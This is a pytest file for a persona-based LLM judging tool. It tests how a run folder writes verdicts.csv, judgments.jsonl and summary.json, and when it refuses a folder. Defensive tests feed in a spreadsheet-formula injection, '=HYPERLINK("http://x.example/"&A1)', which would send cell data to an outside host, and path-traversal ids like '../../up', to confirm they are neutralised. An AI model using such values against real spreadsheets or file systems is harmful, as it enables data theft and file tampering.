"""A run's folder: what its files hold, what it refuses, and that nothing in it is torn."""

from __future__ import annotations

import csv
import json
import math
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from persona_panel import ModelConfig, Panel, Persona
from persona_panel.analyses.run_summary import run_summary
from persona_panel.files.errors import RunFolderError
from persona_panel.files.outputs import text_of
from persona_panel.files.responses import Batch
from persona_panel.graphs import Judge, Judgment, Response
from persona_panel.graphs.aggregate import aggregate
from persona_panel.graphs.deliberation import Deliberation
from persona_panel.rubrics import Dimension, Rubric, Scale, Status, Usage
from persona_panel.runs.folder import RunFolder
from persona_panel.runs.kept import KeptTexts
from persona_panel.runs.output import RunOutput
from persona_panel.runs.run import Run
from persona_panel.testing import always, ok, serving

MANIFEST: dict[str, Any] = {"personas": ["p"], "rubric": {"id": "r"}, "models": ["m"], "seed": 0}
START: dict[str, Any] = {"at": "2025-01-01T00:00:00Z"}
FILES = ["judgments.jsonl", "responses.jsonl", "run.json", "summary.json", "verdicts.csv"]
COLUMNS = [
    *["prompt_id", "id", "system", "composite", "rank", "n_judges"],
    *["clarity_mean", "clarity_sd", "clarity_n", "depth_mean", "depth_sd", "depth_n"],
    *["abstain_share", "words"],
]
JUDGMENT_KEYS = {
    *["prompt_id", "id", "system", "judge", "persona", "model", "elicitation", "replicate"],
    *["round", "status", "scores", "abstained", "rationale", "raw", "usage", "latency_s"],
    *["cached", "error"],
}
JUDGES = [Judge("ann", "openai:m", "dimensions"), Judge("bob", "openai:m", "dimensions")]

Ratings = tuple[float, float] | Status


def rubric() -> Rubric:
    scale = Scale(min=1, max=10, low="none", high="full")
    return Rubric(
        id="r",
        label="R",
        question="How good?",
        dimensions=tuple(
            Dimension(
                id=name, label=name.title(), definition="d", guiding_question="g?", scale=scale
            )
            for name in ("clarity", "depth")
        ),
    )


def response(name: str, prompt_id: str = "q", system: str = "s", **metadata: Any) -> Response:
    return Response(
        id=name, prompt="Why?", text="Because.", system=system, prompt_id=prompt_id,
        metadata=metadata,
    )  # fmt: skip


def judged(item: Response, judge: Judge, ratings: Ratings) -> Judgment:
    """One judgment: two ratings, or the status of there being none."""
    scored = not isinstance(ratings, str)
    return Judgment(
        prompt_id=item.prompt_id or "",
        id=item.id,
        system=item.system,
        judge=judge,
        status="scored" if scored else ratings,
        scores=dict(zip(("clarity", "depth"), ratings, strict=True)) if scored else {},
        abstained=False if scored else None,
        raw="{}" if scored else "",
        usage=Usage(10, 4, 2),
        error=None if scored else "no such luck",
    )


def opened(
    folder: Path, batch: Batch, manifest: Mapping[str, Any] = MANIFEST, **how: bool
) -> RunFolder:
    """The folder of a run on these responses, open for writing."""
    return RunFolder(RunOutput(folder, **how), manifest, KeptTexts.of_batch(batch), START)


def write(folder: Path, batch: Sequence[tuple[Response, Sequence[Ratings]]], seed: int = 0) -> Run:
    """Write a run of these responses with their judges' ratings, as a panel does."""
    read = Batch([item for item, _ in batch])
    run = Run(read.items, read.titles, JUDGES, rubric(), prices={"openai:m": None}, seed=seed)
    out = opened(folder, read, MANIFEST | {"seed": seed})
    for item, ratings in batch:
        judgments = [judged(item, j, r) for j, r in zip(JUDGES, ratings, strict=True)]
        for judgment in judgments:
            run.add(judgment)
            out.add(judgment)
        run.conclude(aggregate(judgments, rubric()))
        out.flush()
    out.finish(run, read, lambda: run_summary(run))
    return run


def table(folder: Path) -> list[dict[str, str]]:
    with (folder / "verdicts.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def header(folder: Path) -> list[str]:
    with (folder / "verdicts.csv").open(encoding="utf-8", newline="") as file:
        return next(csv.reader(file))


def lines(folder: Path) -> list[Mapping[str, Any]]:
    text = (folder / "judgments.jsonl").read_text("utf-8")
    assert text.endswith("\n")
    # Not splitlines: U+2028 inside a text ends no line of JSONL.
    return [json.loads(line) for line in text[:-1].split("\n")]


BATCH = [
    (response("a", system="alder"), [(8.0, 6.0), (6.0, 6.0)]),
    (response("b", system="birch"), [(4.0, 2.0), "refused"]),
    (response("c", system="cedar"), ["failed", "unparsed"]),
]


def test_the_files_are_those_of_the_design(tmp_path: Path) -> None:
    """Four files, no temporary one beside them, and verdicts.csv has the promised columns."""
    write(tmp_path / "run", BATCH)
    assert sorted(entry.name for entry in (tmp_path / "run").iterdir()) == FILES
    assert header(tmp_path / "run") == COLUMNS


def test_verdicts_hold_the_numbers(tmp_path: Path) -> None:
    """Mean, sd and count by dimension, the composite and the rank, worked out by hand."""
    write(tmp_path / "run", BATCH)
    first, second, _ = table(tmp_path / "run")
    assert [first[c] for c in ("composite", "rank", "n_judges")] == ["6.500000", "1", "2"]
    assert [first[f"clarity_{c}"] for c in ("mean", "sd", "n")] == ["7.000000", "1.414214", "2"]
    assert first["abstain_share"] == "0.000000"
    assert first["words"] == "1"
    assert [second[c] for c in ("composite", "rank", "n_judges")] == ["3.000000", "2", "1"]


def test_what_is_undefined_is_an_empty_cell(tmp_path: Path) -> None:
    """No judge: no mean, no rank, no share of abstentions; one judge: no sd. Counts are 0."""
    write(tmp_path / "run", BATCH)
    _, second, third = table(tmp_path / "run")
    assert second["clarity_sd"] == ""
    empty = ("composite", "rank", "clarity_mean", "clarity_sd", "depth_mean", "abstain_share")
    assert [third[c] for c in empty] == [""] * len(empty)
    assert (third["n_judges"], third["clarity_n"]) == ("0", "0")


def test_a_judgment_has_the_promised_keys(tmp_path: Path) -> None:
    """Every line of judgments.jsonl has each key of the specification, and its values."""
    write(tmp_path / "run", BATCH)
    kept = lines(tmp_path / "run")
    assert len(kept) == 6
    assert all(set(line) >= JUDGMENT_KEYS for line in kept)
    assert kept[0]["judge"] == "ann|openai:m|dimensions|1"
    assert kept[0]["scores"] == {"clarity": 8.0, "depth": 6.0}
    assert kept[0]["usage"] == {"input": 10, "cached": 4, "output": 2, "written": 0, "reasoning": 0}
    assert (kept[3]["status"], kept[3]["scores"], kept[3]["error"]) == (
        "refused",
        {},
        "no such luck",
    )


def test_the_summary_counts_what_is_missing_and_says_null(tmp_path: Path) -> None:
    """Coverage adds up by reason; an undefined mean or interval is null, not NaN."""
    write(tmp_path / "run", BATCH, seed=7)
    text = (tmp_path / "run" / "summary.json").read_text("utf-8")
    assert "NaN" not in text
    summary = json.loads(text)
    assert {"ranking", "coverage", "calls", "usage", "seed", "version"} <= set(summary)
    assert summary["coverage"] == {
        "expected": 6,
        "scored": 3,
        "abstained": 0,
        "missing": {"failed": 1, "refused": 1, "unparsed": 1},
        "partial": 0,
        "revisions_failed": {},
        "reasons_missing": 0,
        "edited": False,
    }
    best, _, worst = summary["ranking"]
    assert {"system", "composite", "ci_low", "ci_high", "rank", "dimensions"} <= set(best)
    assert (best["system"], best["composite"], best["ci_low"]) == ("alder", 6.5, None)
    assert best["ci_reason"].startswith("an interval needs two prompts")
    assert summary["random"] == "prompts"
    assert summary["winner"] is None
    [pair] = summary["differences"]
    assert list(pair) == [
        "a", "b", "difference", "ci_low", "ci_high", "p", "p_adjusted", "effect_size",
        "n_prompts", "reason",
    ]  # fmt: skip
    assert (pair["a"], pair["p"], pair["ci_low"]) == ("alder", None, None)
    assert best["dimensions"] == {"clarity": 7.0, "depth": 6.0}
    assert (worst["system"], worst["composite"], worst["rank"]) == ("cedar", None, None)
    assert worst["dimensions"] == {"clarity": None, "depth": None}
    assert summary["seed"] == 7
    assert summary["usage"]["openai:m"]["input"] == 60


def test_metadata_comes_back(tmp_path: Path) -> None:
    """Text, numbers and nested values return in columns after ours, absent ones empty."""
    first = response("a", year=1999, share=0.5, tags=["x", "y"], sure=True, none=None)
    batch = [(first, BATCH[0][1]), (response("b", note="näher, „so“\nund so"), BATCH[1][1])]
    write(tmp_path / "run", batch)
    assert header(tmp_path / "run") == [
        *COLUMNS,
        *["year", "share", "tags", "sure", "none", "note"],
    ]
    one, two = table(tmp_path / "run")
    assert [one[c] for c in ("year", "share", "tags", "sure", "none", "note")] == [
        *["1999", "0.5", '["x","y"]', "true", "", ""],
    ]
    assert (two["note"], two["year"]) == ("näher, „so“\nund so", "")


def test_metadata_never_takes_the_place_of_a_column_of_ours(tmp_path: Path) -> None:
    """A metadata field called rank comes back as metadata_rank, and no name comes twice."""
    item = response("a", rank="mine", metadata_rank="too", clarity_mean="high")
    write(tmp_path / "run", [(item, BATCH[0][1])])
    names = header(tmp_path / "run")
    assert len(names) == len(set(names))
    assert names[: len(COLUMNS)] == COLUMNS
    [row] = table(tmp_path / "run")
    assert row["rank"] == "1"
    assert row["metadata_clarity_mean"] == "high"
    assert {"mine", "too"} <= set(row.values())


def test_odd_ids_are_data_and_never_paths(tmp_path: Path) -> None:
    """Ids with slashes, dots, line breaks and other scripts come back and make no file."""
    odd = ["../../up", "a/b", "zwei\nZeilen", "名前", "x\u2028y", 'say "so", then', "=1+1"]
    batch = [(response(name, prompt_id=f"{name}?"), BATCH[0][1]) for name in odd]
    write(tmp_path / "run", batch)
    rows = table(tmp_path / "run")
    assert [text_of(row["id"]) for row in rows] == odd
    assert [text_of(row["prompt_id"]) for row in rows] == [f"{name}?" for name in odd]
    assert [line["id"] for line in lines(tmp_path / "run")[::2]] == odd
    assert [entry.name for entry in tmp_path.iterdir()] == ["run"]
    assert sorted(entry.name for entry in (tmp_path / "run").iterdir()) == FILES


def test_no_text_is_a_formula_to_a_spreadsheet(tmp_path: Path) -> None:
    """Names, metadata and the heads of its columns that begin like a formula get an apostrophe;
    numbers, negative ones and those in texts as well, stay as they are."""
    formula = '=HYPERLINK("http://x.example/"&A1)'
    odd = response("@id", system="+system", prompt_id="-1+1", **{formula: formula, "n": -5})
    other = response("b", n="-0.5", note="'=quoted")
    write(tmp_path / "run", [(odd, BATCH[0][1]), (other, BATCH[1][1])])
    one, two = table(tmp_path / "run")
    assert [one[name] for name in ("id", "system", "prompt_id")] == ["'@id", "'+system", "'-1+1"]
    assert one[f"'{formula}"] == f"'{formula}"
    assert (one["n"], two["n"], two["note"]) == ("-5", "-0.5", "''=quoted")
    assert text_of(two["note"]) == "'=quoted"
    assert lines(tmp_path / "run")[0]["id"] == "@id"


def test_a_second_run_into_the_folder_replaces_the_first(tmp_path: Path) -> None:
    """Nothing is doubled: the lines are those of the second run, also after a torn one."""
    write(tmp_path / "run", BATCH)
    before = (tmp_path / "run" / "verdicts.csv").read_bytes()
    judgments = tmp_path / "run" / "judgments.jsonl"
    judgments.write_bytes(judgments.read_bytes()[:-20])
    write(tmp_path / "run", BATCH)
    assert len(lines(tmp_path / "run")) == 6
    assert (tmp_path / "run" / "verdicts.csv").read_bytes() == before
    assert sorted(entry.name for entry in (tmp_path / "run").iterdir()) == FILES


def test_a_judgment_is_on_disk_after_a_flush(tmp_path: Path) -> None:
    """What was appended can be read, line by line, while the run goes on."""
    nothing = Batch([])
    folder = opened(tmp_path / "run", nothing)
    for n in (1, 2):
        folder.add(judged(BATCH[0][0], JUDGES[0], (5.0, 5.0)))
        folder.flush()
        assert len(lines(tmp_path / "run")) == n
    run = Run((), {}, JUDGES, rubric(), prices={}, seed=0)
    folder.finish(run, nothing, lambda: run_summary(run))


@pytest.mark.parametrize("key", ["personas", "rubric", "models", "seed"])
def test_a_folder_of_another_run_is_refused(tmp_path: Path, key: str) -> None:
    """Another persona, rubric, model or seed is named, and what is there stays as it was."""
    write(tmp_path / "run", BATCH)
    before = {path.name: path.read_bytes() for path in (tmp_path / "run").iterdir()}
    with pytest.raises(RunFolderError, match=f"differs in: {key}"):
        opened(tmp_path / "run", Batch([]), MANIFEST | {key: ["other"]})
    assert {path.name: path.read_bytes() for path in (tmp_path / "run").iterdir()} == before


@pytest.mark.parametrize("content", ["{}", "[]", "null", "{torn"])
def test_a_foreign_run_json_is_refused(tmp_path: Path, content: str) -> None:
    """A run.json that is not one of ours, or no JSON, is left alone."""
    (tmp_path / "run.json").write_text(content)
    with pytest.raises(RunFolderError, match="choose another --out"):
        opened(tmp_path, Batch([]))
    assert (tmp_path / "run.json").read_text() == content


def test_a_folder_that_is_no_run_is_refused(tmp_path: Path) -> None:
    """A folder with other things in it gets no file of ours."""
    (tmp_path / "thesis.tex").write_text("mine")
    with pytest.raises(RunFolderError, match=r"thesis\.tex"):
        opened(tmp_path, Batch([]))
    assert [entry.name for entry in tmp_path.iterdir()] == ["thesis.tex"]


def test_a_file_in_the_place_of_the_folder_is_refused(tmp_path: Path) -> None:
    """`--out` that names a file says that it cannot be written."""
    (tmp_path / "run").write_text("a file")
    with pytest.raises(RunFolderError, match="cannot be"):
        opened(tmp_path / "run", Batch([]))


def test_a_folder_that_a_kill_left_before_its_run_json_is_taken(tmp_path: Path) -> None:
    """The file that locks it is there, and empty."""
    (tmp_path / "judgments.jsonl").touch()
    write(tmp_path, BATCH[:1])
    (tmp_path / "run.json").unlink()
    with pytest.raises(RunFolderError, match="not empty"):
        write(tmp_path, BATCH[:1])


def test_an_empty_folder_and_a_deep_one_are_taken(tmp_path: Path) -> None:
    """A folder that is there and empty will do, and missing ones above it are made."""
    write(tmp_path, BATCH[:1])
    write(tmp_path / "deep" / "er", BATCH[:1])
    assert math.isclose(float(table(tmp_path / "deep" / "er")[0]["composite"]), 6.5)


def test_two_runs_do_not_write_into_one_folder(tmp_path: Path) -> None:
    """While a run writes, the same run is refused its folder and nothing of it is touched; when
    the first is done the folder is free."""
    nothing = Batch([])
    first = opened(tmp_path / "run", nothing)
    first.add(judged(response("a"), JUDGES[0], (1.0, 2.0)))
    first.flush()
    before = (tmp_path / "run" / "judgments.jsonl").read_bytes()
    with pytest.raises(RunFolderError, match="another run is writing"):
        opened(tmp_path / "run", nothing)
    assert (tmp_path / "run" / "judgments.jsonl").read_bytes() == before
    run = Run((), {}, JUDGES, rubric(), prices={}, seed=0)
    first.finish(run, nothing, lambda: run_summary(run))
    opened(tmp_path / "run", nothing).finish(run, nothing, lambda: run_summary(run))


@pytest.mark.parametrize(
    ("key", "changed"),
    [
        ("layout", {"layout": "persona-first"}),
        ("replicates", {"replicates": 2}),
        ("deliberation", {"deliberation": Deliberation(rounds=2)}),
        ("seed", {"seed": 1}),
        ("one_dimension_per_call", {"one_dimension_per_call": True}),
        ("personas, plain_judge", {"plain_judge": True}),
    ],
)
def test_a_panel_that_judges_otherwise_is_another_run(
    tmp_path: Path, key: str, changed: dict[str, Any]
) -> None:
    """run.json says how the panel judges, and a panel that differs in it alone is refused the
    folder."""
    first = tmp_path / "run"
    with serving(always(ok('{"clarity": 7, "depth": 5}'))) as server:
        model = ModelConfig(model="openai:m", base_url=server.base_url)
        people = [Persona(id="ann", label="Ann", axis="own", description="You are Ann.")]
        Panel(people, model, rubric()).score([response("a")], out=first)
        other = Panel(people, model, rubric(), **changed)
        with pytest.raises(RunFolderError, match=f"differs in: {key}\\)"):
            other.score([response("a")], out=first)
        other.score([response("a")], out=tmp_path / "other")
    said = [json.loads((tmp_path / name / "run.json").read_bytes()) for name in ("run", "other")]
    assert all(said[0][name] != said[1][name] for name in key.split(", "))
    if key == "layout":
        assert [one["layout"] for one in said] == ["shared-prefix", "persona-first"]


def test_a_folder_that_an_earlier_version_wrote_goes_on(tmp_path: Path) -> None:
    """What its run.json does not name, such as a plain judge, its run did not have."""
    folder = tmp_path / "run"
    with serving(always(ok('{"clarity": 7, "depth": 5}'))) as server:
        model = ModelConfig(model="openai:m", base_url=server.base_url)
        people = [Persona(id="ann", label="Ann", axis="own", description="You are Ann.")]
        Panel(people, model, rubric()).score([response("a")], out=folder)
        document = json.loads((folder / "run.json").read_bytes())
        for key in ("plain_judge", "one_dimension_per_call"):
            del document[key]
        (folder / "run.json").write_text(json.dumps(document))
        run = Panel(people, model, rubric()).score([response("a")], out=folder)
    assert run.coverage.scored == 1
